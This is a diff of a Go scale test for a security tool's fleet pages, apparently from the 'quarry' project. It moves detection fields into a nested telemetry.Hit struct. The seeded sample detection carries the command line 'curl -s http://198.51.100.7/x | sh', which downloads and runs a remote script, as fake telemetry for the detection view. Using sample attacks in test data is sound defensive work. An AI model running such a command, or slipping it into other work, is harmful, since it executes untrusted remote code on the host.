@@ -14,6 +14,7 @@ import (
 	"github.com/quarry-sec/quarry/fleet/store"
 	"github.com/quarry-sec/quarry/fleet/web"
 	"github.com/quarry-sec/quarry/tables/ioa"
+	"github.com/quarry-sec/quarry/telemetry"
 )
 
 // Scale of the fleet TestPagesAtScale renders.
@@ -63,12 +64,11 @@ func seedScale(t testing.TB, f *fleet) {
 				name, tactic = te.Name, strings.Join(te.Tactics, ",")
 			}
 			pid := int64(1000 + i%30)
-			d := store.Detection{HitID: fmt.Sprintf("hit-%d", i), Time: now.Add(-time.Duration(rng.Int63n(int64(7 * 24 * time.Hour)))),
-				Query: "quarry_ioa_hits", RuleID: "rule-" + tech, RuleTitle: "Rule for " + tech, RuleAuthor: "Quarry team",
+			d := store.Detection{Query: "quarry_ioa_hits", Hit: telemetry.Hit{HitID: fmt.Sprintf("hit-%d", i), Time: now.Add(-time.Duration(rng.Int63n(int64(7 * 24 * time.Hour)))), RuleID: "rule-" + tech, RuleTitle: "Rule for " + tech, RuleAuthor: "Quarry team",
 				RuleSource: "builtin", TechniqueID: tech, TechniqueName: name, Tactic: tactic, Severity: sevs[rng.Intn(len(sevs))],
 				Confidence: "medium", Description: "A scale-test detection.", Recommendations: "Look at the process tree.",
 				EID: pid, PID: pid, Path: "/usr/bin/curl", Cmdline: "curl -s http://198.51.100.7/x | sh", ParentPath: "/bin/bash",
-				Username: "www-data", Source: "ebpf"}
+				Username: "www-data", Source: "ebpf"}}
 			logs = append(logs, store.HostLogs{HostID: hostIDs[i%scaleHosts], Batch: &store.LogBatch{Detections: []store.Detection{d}}})
 		}
 		if err := f.st.AppendHostLogs(ctx, logs); err != nil {
